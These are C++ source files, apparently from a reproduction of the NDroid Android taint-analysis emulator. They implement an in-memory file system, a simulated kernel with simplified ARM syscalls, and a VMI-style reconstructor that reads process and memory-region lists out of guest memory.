  /// Appends at `pos`, growing the file as needed. Creates on first write.
  void write_at(const std::string& path, u64 pos, std::span<const u8> data);

  /// Returns bytes actually read (0 at/after EOF).
  u32 read_at(const std::string& path, u64 pos, std::span<u8> out) const;

  [[nodiscard]] u64 size(const std::string& path) const;
  [[nodiscard]] const std::vector<u8>& content(const std::string& path) const;
  [[nodiscard]] std::string content_str(const std::string& path) const;

  [[nodiscard]] std::vector<std::string> list() const;

 private:
  std::map<std::string, std::vector<u8>> files_;
};

}  // namespace ndroid::os
