#include "os/vfs.h"

#include <algorithm>
#include <cstring>

namespace ndroid::os {

bool Vfs::exists(const std::string& path) const {
  return files_.contains(path);
}

void Vfs::create(const std::string& path, std::vector<u8> content) {
  files_[path] = std::move(content);
}

void Vfs::remove(const std::string& path) { files_.erase(path); }

void Vfs::write_at(const std::string& path, u64 pos,
                   std::span<const u8> data) {
  auto& file = files_[path];
  if (file.size() < pos + data.size()) file.resize(pos + data.size());
  std::copy(data.begin(), data.end(), file.begin() + static_cast<i64>(pos));
}

u32 Vfs::read_at(const std::string& path, u64 pos, std::span<u8> out) const {
  auto it = files_.find(path);
  if (it == files_.end() || pos >= it->second.size()) return 0;
  const u64 n = std::min<u64>(out.size(), it->second.size() - pos);
  std::memcpy(out.data(), it->second.data() + pos, n);
  return static_cast<u32>(n);
}

u64 Vfs::size(const std::string& path) const {
  auto it = files_.find(path);
  return it == files_.end() ? 0 : it->second.size();
}

const std::vector<u8>& Vfs::content(const std::string& path) const {
  auto it = files_.find(path);
  if (it == files_.end()) throw GuestFault("no such file: " + path);
  return it->second;
}

std::string Vfs::content_str(const std::string& path) const {
  const auto& bytes = content(path);
  return {reinterpret_cast<const char*>(bytes.data()), bytes.size()};
}

std::vector<std::string> Vfs::list() const {
  std::vector<std::string> names;
  names.reserve(files_.size());
  for (const auto& [name, content] : files_) names.push_back(name);
  return names;
}

}  // namespace ndroid::os
