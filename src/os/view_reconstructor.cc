#include "os/view_reconstructor.h"

namespace ndroid::os {

namespace {
// Mirrors the guest layout written by Kernel::sync_guest_structs — the
// "kernel symbols" a VMI tool derives from the kernel build.
constexpr u32 kTaskNext = 0x00;
constexpr u32 kTaskPid = 0x04;
constexpr u32 kTaskComm = 0x08;
constexpr u32 kTaskMm = 0x18;

constexpr u32 kVmaStart = 0x00;
constexpr u32 kVmaEnd = 0x04;
constexpr u32 kVmaNext = 0x08;
constexpr u32 kVmaName = 0x0C;

constexpr u32 kMaxNodes = 1u << 16;  // cycle guard for corrupt guest data
}  // namespace

const RegionView* ProcessView::find_module(std::string_view module) const {
  for (const RegionView& r : regions) {
    if (r.name == module) return &r;
  }
  return nullptr;
}

std::string ProcessView::module_of(GuestAddr addr) const {
  for (const RegionView& r : regions) {
    if (addr >= r.start && addr < r.end) return r.name;
  }
  return "<unmapped>";
}

ViewReconstructor::ViewReconstructor(const mem::AddressSpace& memory,
                                     GuestAddr task_root)
    : memory_(memory), task_root_(task_root) {}

std::vector<ProcessView> ViewReconstructor::reconstruct() const {
  std::vector<ProcessView> views;
  GuestAddr task = memory_.read32(task_root_);
  u32 guard = 0;
  while (task != 0) {
    if (++guard > kMaxNodes) {
      throw GuestFault("task list does not terminate (corrupt guest state)");
    }
    ProcessView view;
    view.pid = memory_.read32(task + kTaskPid);
    std::string comm;
    for (u32 i = 0; i < 16; ++i) {
      const u8 c = memory_.read8(task + kTaskComm + i);
      if (c == 0) break;
      comm.push_back(static_cast<char>(c));
    }
    view.name = comm;

    GuestAddr vma = memory_.read32(task + kTaskMm);
    u32 vma_guard = 0;
    while (vma != 0) {
      if (++vma_guard > kMaxNodes) {
        throw GuestFault("vma list does not terminate");
      }
      RegionView region;
      region.start = memory_.read32(vma + kVmaStart);
      region.end = memory_.read32(vma + kVmaEnd);
      region.name = memory_.read_cstr(memory_.read32(vma + kVmaName), 4096);
      view.regions.push_back(std::move(region));
      vma = memory_.read32(vma + kVmaNext);
    }
    views.push_back(std::move(view));
    task = memory_.read32(task + kTaskNext);
  }
  return views;
}

const ProcessView* ViewReconstructor::find_process(
    const std::vector<ProcessView>& views, std::string_view name) const {
  for (const ProcessView& v : views) {
    if (v.name == name) return &v;
  }
  return nullptr;
}

}  // namespace ndroid::os
