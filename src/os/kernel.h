// Simulated Android/Linux kernel: processes, file descriptors, syscalls,
// and guest-materialised task structures.
//
// Role in the reproduction: NDroid sits *outside* the OS (it is built into
// the emulator), so everything it learns about processes and memory maps
// must be recovered from raw guest memory (virtual machine introspection,
// paper §V-F). To make that honest, this kernel maintains its task list and
// per-process VMA lists as linked structures *inside guest memory*; the
// OS-level view reconstructor parses those bytes without access to any of
// this class's host-side state.
//
// Syscall ABI (Linux-EABI-style, simplified): number in R7, args in R0-R5,
// result in R0. SVC instructions are ordinary guest instructions, so
// NDroid's engines observe them via the CPU instruction hook (how the
// paper's Table VII syscall sinks are monitored).
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "arm/cpu.h"
#include "mem/memory_map.h"
#include "os/network.h"
#include "os/vfs.h"

namespace ndroid::os {

/// Simplified syscall numbers (subset of Table VII's hooked calls).
enum class Sys : u32 {
  kExit = 1,
  kRead = 3,
  kWrite = 4,
  kOpen = 5,
  kClose = 6,
  kUnlink = 10,
  kGetpid = 20,
  kMkdir = 39,
  kMmap = 90,
  kMunmap = 91,
  kSocket = 281,
  kConnect = 283,
  kSend = 289,
  kSendto = 290,
  kRecv = 291,
};

/// Open-file flags for Sys::kOpen.
inline constexpr u32 kOpenRead = 0;
inline constexpr u32 kOpenWrite = 1;
inline constexpr u32 kOpenAppend = 2;

struct FdEntry {
  enum class Kind { kFile, kSocket } kind = Kind::kFile;
  std::string path;
  u64 pos = 0;
  int socket_id = -1;
};

struct Process {
  u32 pid = 0;
  std::string name;
  std::vector<mem::Region> regions;
};

/// Decoded syscall, delivered to the observer after the kernel handles it.
struct SyscallEvent {
  Sys number;
  std::array<u32, 6> args{};
  u32 result = 0;
};

class Kernel {
 public:
  /// Guest region that holds the materialised task structures. The root
  /// task-list pointer lives at kTaskRoot (the "init_task symbol").
  static constexpr GuestAddr kKernelBase = 0xC0000000;
  static constexpr u32 kKernelSize = 0x100000;
  static constexpr GuestAddr kTaskRoot = kKernelBase;

  Kernel(mem::AddressSpace& memory, mem::MemoryMap& memmap);

  /// Routes SVC instructions from the CPU to this kernel.
  void attach(arm::Cpu& cpu);

  Vfs& vfs() { return vfs_; }
  Network& network() { return network_; }
  [[nodiscard]] const Network& network() const { return network_; }

  // --- Processes --------------------------------------------------------
  u32 create_process(std::string name);
  /// Records a mapped region for `pid` and mirrors it into the guest-side
  /// VMA list.
  void map_region(u32 pid, const mem::Region& region);
  [[nodiscard]] const std::vector<Process>& processes() const {
    return processes_;
  }
  void set_current_pid(u32 pid) { current_pid_ = pid; }

  /// Rewrites the guest-side task structures from the host-side tables.
  void sync_guest_structs();

  /// Renders /proc/<pid>/maps (and /proc/self/maps) into the VFS from the
  /// per-process region lists.
  void refresh_proc_maps();

  // --- File descriptors (host-callable, also used by syscalls) ----------
  int open_file(const std::string& path, u32 flags);
  int open_socket();
  void close_fd(int fd);
  u32 write_fd(int fd, std::span<const u8> data);
  u32 read_fd(int fd, std::span<u8> out);
  [[nodiscard]] const FdEntry* fd_entry(int fd) const;

  /// Anonymous guest memory (simplified mmap); carves from a heap region.
  GuestAddr mmap_anonymous(u32 len);

  void set_syscall_observer(std::function<void(const SyscallEvent&)> fn) {
    syscall_observer_ = std::move(fn);
  }

  /// True once a guest called exit().
  [[nodiscard]] bool exited() const { return exited_; }
  [[nodiscard]] u32 exit_code() const { return exit_code_; }

 private:
  void handle_svc(arm::Cpu& cpu, u32 svc_imm);
  u32 do_syscall(arm::Cpu& cpu, Sys number, const std::array<u32, 6>& args);

  mem::AddressSpace& memory_;
  mem::MemoryMap& memmap_;
  Vfs vfs_;
  Network network_;

  std::vector<Process> processes_;
  u32 next_pid_ = 1000;
  u32 current_pid_ = 0;

  std::unordered_map<int, FdEntry> fds_;
  int next_fd_ = 3;  // 0-2 reserved

  GuestAddr kernel_bump_ = 0;  // guest allocator for task structs
  GuestAddr heap_next_ = 0;

  std::function<void(const SyscallEvent&)> syscall_observer_;
  bool exited_ = false;
  u32 exit_code_ = 0;
};

}  // namespace ndroid::os
