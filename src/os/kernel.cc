#include "os/kernel.h"

#include <algorithm>
#include <cstdio>

namespace ndroid::os {

namespace {
// Guest task_struct layout (offsets in bytes). The view reconstructor in
// view_reconstructor.cc mirrors these constants; they are the "kernel
// symbols" a VMI tool would derive from the kernel image.
constexpr u32 kTaskNext = 0x00;
constexpr u32 kTaskPid = 0x04;
constexpr u32 kTaskComm = 0x08;  // 16 bytes
constexpr u32 kTaskMm = 0x18;
constexpr u32 kTaskSize = 0x1C;

constexpr u32 kVmaStart = 0x00;
constexpr u32 kVmaEnd = 0x04;
constexpr u32 kVmaNext = 0x08;
constexpr u32 kVmaName = 0x0C;
constexpr u32 kVmaSize = 0x10;
}  // namespace

Kernel::Kernel(mem::AddressSpace& memory, mem::MemoryMap& memmap)
    : memory_(memory), memmap_(memmap) {
  memmap_.add("[kernel]", kKernelBase, kKernelSize, mem::kRW);
  memmap_.add("[heap]", 0x30000000, 0x4000000, mem::kRW);
  heap_next_ = 0x30000000;
  memory_.write32(kTaskRoot, 0);
  kernel_bump_ = kKernelBase + 16;
}

void Kernel::attach(arm::Cpu& cpu) {
  cpu.set_svc_handler(
      [this](arm::Cpu& c, u32 imm) { handle_svc(c, imm); });
}

u32 Kernel::create_process(std::string name) {
  const u32 pid = next_pid_++;
  processes_.push_back(Process{pid, std::move(name), {}});
  if (current_pid_ == 0) current_pid_ = pid;
  sync_guest_structs();
  return pid;
}

void Kernel::map_region(u32 pid, const mem::Region& region) {
  for (Process& p : processes_) {
    if (p.pid == pid) {
      p.regions.push_back(region);
      sync_guest_structs();
      return;
    }
  }
  throw GuestFault("map_region: no such pid " + std::to_string(pid));
}

void Kernel::refresh_proc_maps() {
  // Renders /proc/<pid>/maps for each process (and /proc/self/maps for the
  // current one) from the per-process region lists — the textual view tools
  // and emulator-detection code read on real Android.
  for (const Process& p : processes_) {
    std::string text;
    for (const mem::Region& r : p.regions) {
      char line[128];
      std::snprintf(line, sizeof line, "%08x-%08x %c%c%cp 00000000 %s\n",
                    r.start, r.end,
                    mem::has_perm(r.perms, mem::Perm::kRead) ? 'r' : '-',
                    mem::has_perm(r.perms, mem::Perm::kWrite) ? 'w' : '-',
                    mem::has_perm(r.perms, mem::Perm::kExec) ? 'x' : '-',
                    r.name.c_str());
      text += line;
    }
    const std::vector<u8> bytes(text.begin(), text.end());
    vfs_.create("/proc/" + std::to_string(p.pid) + "/maps", bytes);
    if (p.pid == current_pid_) {
      vfs_.create("/proc/self/maps", bytes);
    }
  }
}

void Kernel::sync_guest_structs() {
  // Rebuild the whole linked structure with a fresh bump allocation pass;
  // simple and deterministic, and forces the reconstructor to re-parse.
  kernel_bump_ = kKernelBase + 16;
  auto alloc = [&](u32 size) {
    const GuestAddr addr = kernel_bump_;
    kernel_bump_ += (size + 3) & ~3u;
    if (kernel_bump_ > kKernelBase + kKernelSize) {
      throw GuestFault("kernel struct area exhausted");
    }
    return addr;
  };
  auto alloc_cstr = [&](const std::string& s) {
    const GuestAddr addr = alloc(static_cast<u32>(s.size()) + 1);
    memory_.write_cstr(addr, s);
    return addr;
  };

  GuestAddr prev_link = kTaskRoot;
  for (const Process& p : processes_) {
    const GuestAddr task = alloc(kTaskSize);
    memory_.write32(prev_link, task);
    memory_.write32(task + kTaskNext, 0);
    memory_.write32(task + kTaskPid, p.pid);
    std::string comm = p.name.substr(0, 15);
    for (u32 i = 0; i < 16; ++i) {
      memory_.write8(task + kTaskComm + i,
                     i < comm.size() ? static_cast<u8>(comm[i]) : 0);
    }
    GuestAddr mm_link = task + kTaskMm;
    memory_.write32(mm_link, 0);
    for (const mem::Region& r : p.regions) {
      const GuestAddr vma = alloc(kVmaSize);
      memory_.write32(mm_link, vma);
      memory_.write32(vma + kVmaStart, r.start);
      memory_.write32(vma + kVmaEnd, r.end);
      memory_.write32(vma + kVmaNext, 0);
      memory_.write32(vma + kVmaName, alloc_cstr(r.name));
      mm_link = vma + kVmaNext;
    }
    prev_link = task + kTaskNext;
  }
  refresh_proc_maps();
}

int Kernel::open_file(const std::string& path, u32 flags) {
  if (flags == kOpenRead && !vfs_.exists(path)) return -1;
  const int fd = next_fd_++;
  FdEntry entry;
  entry.kind = FdEntry::Kind::kFile;
  entry.path = path;
  entry.pos = flags == kOpenAppend ? vfs_.size(path) : 0;
  if (flags == kOpenWrite) vfs_.create(path);
  fds_[fd] = std::move(entry);
  return fd;
}

int Kernel::open_socket() {
  const int fd = next_fd_++;
  FdEntry entry;
  entry.kind = FdEntry::Kind::kSocket;
  entry.socket_id = network_.create_socket();
  fds_[fd] = std::move(entry);
  return fd;
}

void Kernel::close_fd(int fd) {
  auto it = fds_.find(fd);
  if (it == fds_.end()) return;
  if (it->second.kind == FdEntry::Kind::kSocket) {
    network_.close(it->second.socket_id);
  }
  fds_.erase(it);
}

u32 Kernel::write_fd(int fd, std::span<const u8> data) {
  auto it = fds_.find(fd);
  if (it == fds_.end()) return 0;
  FdEntry& e = it->second;
  if (e.kind == FdEntry::Kind::kSocket) {
    network_.send(e.socket_id, data);
  } else {
    vfs_.write_at(e.path, e.pos, data);
    e.pos += data.size();
  }
  return static_cast<u32>(data.size());
}

u32 Kernel::read_fd(int fd, std::span<u8> out) {
  auto it = fds_.find(fd);
  if (it == fds_.end()) return 0;
  FdEntry& e = it->second;
  if (e.kind == FdEntry::Kind::kSocket) {
    return network_.recv(e.socket_id, out);
  }
  const u32 n = vfs_.read_at(e.path, e.pos, out);
  e.pos += n;
  return n;
}

const FdEntry* Kernel::fd_entry(int fd) const {
  auto it = fds_.find(fd);
  return it == fds_.end() ? nullptr : &it->second;
}

GuestAddr Kernel::mmap_anonymous(u32 len) {
  const GuestAddr addr = heap_next_;
  heap_next_ += (len + 0xFFFu) & ~0xFFFu;
  if (heap_next_ > 0x34000000) throw GuestFault("guest heap exhausted");
  return addr;
}

void Kernel::handle_svc(arm::Cpu& cpu, u32 svc_imm) {
  auto& regs = cpu.state().regs;
  const u32 number = svc_imm != 0 ? svc_imm : regs[7];
  std::array<u32, 6> args{regs[0], regs[1], regs[2],
                          regs[3], regs[4], regs[5]};
  const u32 result = do_syscall(cpu, static_cast<Sys>(number), args);
  regs[0] = result;
  if (syscall_observer_) {
    syscall_observer_(SyscallEvent{static_cast<Sys>(number), args, result});
  }
}

u32 Kernel::do_syscall(arm::Cpu& cpu, Sys number,
                       const std::array<u32, 6>& args) {
  switch (number) {
    case Sys::kExit:
      exited_ = true;
      exit_code_ = args[0];
      cpu.state().set_pc(arm::kHostReturnAddr);
      return args[0];

    case Sys::kRead: {
      std::vector<u8> buf(args[2]);
      const u32 n = read_fd(static_cast<int>(args[0]), buf);
      memory_.write_bytes(args[1], std::span<const u8>(buf.data(), n));
      return n;
    }

    case Sys::kWrite: {
      std::vector<u8> buf(args[2]);
      memory_.read_bytes(args[1], buf);
      return write_fd(static_cast<int>(args[0]), buf);
    }

    case Sys::kOpen:
      return static_cast<u32>(
          open_file(memory_.read_cstr(args[0]), args[1]));

    case Sys::kClose:
      close_fd(static_cast<int>(args[0]));
      return 0;

    case Sys::kUnlink:
      vfs_.remove(memory_.read_cstr(args[0]));
      return 0;

    case Sys::kGetpid:
      return current_pid_;

    case Sys::kMkdir:
      return 0;  // directories are implicit in the VFS

    case Sys::kMmap:
      return mmap_anonymous(args[1]);

    case Sys::kMunmap:
      return 0;

    case Sys::kSocket:
      return static_cast<u32>(open_socket());

    case Sys::kConnect: {
      const FdEntry* e = fd_entry(static_cast<int>(args[0]));
      if (e == nullptr || e->kind != FdEntry::Kind::kSocket) return -1u;
      network_.connect(e->socket_id, memory_.read_cstr(args[1]),
                       static_cast<u16>(args[2]));
      return 0;
    }

    case Sys::kSend: {
      const FdEntry* e = fd_entry(static_cast<int>(args[0]));
      if (e == nullptr || e->kind != FdEntry::Kind::kSocket) return -1u;
      std::vector<u8> buf(args[2]);
      memory_.read_bytes(args[1], buf);
      network_.send(e->socket_id, buf);
      return args[2];
    }

    case Sys::kSendto: {
      const FdEntry* e = fd_entry(static_cast<int>(args[0]));
      if (e == nullptr || e->kind != FdEntry::Kind::kSocket) return -1u;
      std::vector<u8> buf(args[2]);
      memory_.read_bytes(args[1], buf);
      network_.sendto(e->socket_id, memory_.read_cstr(args[3]),
                      static_cast<u16>(args[4]), buf);
      return args[2];
    }

    case Sys::kRecv: {
      const FdEntry* e = fd_entry(static_cast<int>(args[0]));
      if (e == nullptr || e->kind != FdEntry::Kind::kSocket) return -1u;
      std::vector<u8> buf(args[2]);
      const u32 n = network_.recv(e->socket_id, buf);
      memory_.write_bytes(args[1], std::span<const u8>(buf.data(), n));
      return n;
    }
  }
  throw GuestFault("unimplemented syscall " +
                   std::to_string(static_cast<u32>(number)));
}

}  // namespace ndroid::os
